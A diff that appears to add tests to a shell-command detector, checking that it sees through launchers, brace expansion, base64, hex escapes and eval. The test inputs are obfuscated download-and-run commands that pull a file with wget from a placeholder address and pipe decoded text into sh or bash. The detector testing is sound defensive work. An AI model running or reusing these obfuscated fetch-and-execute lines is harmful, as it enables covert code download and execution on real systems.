@@ -169,6 +169,47 @@ def test_what_is_no_decodable_literal_stays(line):
     assert not texts(line, "decoded")
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "command wget http://203.0.113.9/x",
+        "builtin command wget http://203.0.113.9/x",
+        "setsid -f wget http://203.0.113.9/x",
+        "doas -u bob wget http://203.0.113.9/x",
+        "ionice -c 3 nice -n 19 wget http://203.0.113.9/x",
+        "{wget,http://203.0.113.9/x}",
+        "setsid sh -c 'wget http://203.0.113.9/x'",
+    ],
+)
+def test_launchers_and_commands_without_a_space_are_looked_through(line):
+    assert "wget http://203.0.113.9/x" in texts(line, "command")
+
+
+def test_asking_where_a_program_is_runs_nothing():
+    assert argv0s("command -v wget") == ["command"]
+    assert argv0s("cp x{,.bak} y") == ["cp"]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"echo {base64.b64encode(b'cd /tmp; wget http://203.0.113.9/x').decode()} | base64 -d | sh",
+        f"bash -c '{{echo,{base64.b64encode(b'wget http://203.0.113.9/x').decode()}}}|{{base64,-d}}|{{bash,-i}}'",
+        r"""eval "$(printf '\x77\x67\x65\x74 http://203.0.113.9/x')" """,
+        r"echo -e 'cd /tmp\073\x77get http://203.0.113.9/x' | sh",
+    ],
+)
+def test_every_command_of_a_decoded_text_is_a_view(line):
+    assert "wget http://203.0.113.9/x" in texts(line, "decoded")
+
+
+def test_a_decoded_program_is_no_script():
+    blob = base64.b64encode(bytes(range(256)) * 40 + b";wget x").decode()
+    found = views(f"echo {blob} | base64 -d > /tmp/x")
+    assert len([view for view in found.views if view.kind == "decoded"]) == 1
+    assert not found.capped
+
+
 def test_views_are_the_line_then_commands_from_left_to_right_then_decoded_texts():
     seen = views("a x; echo d2dldA== | base64 -d; b $(c)").views
     kinds = [v.kind for v in seen]
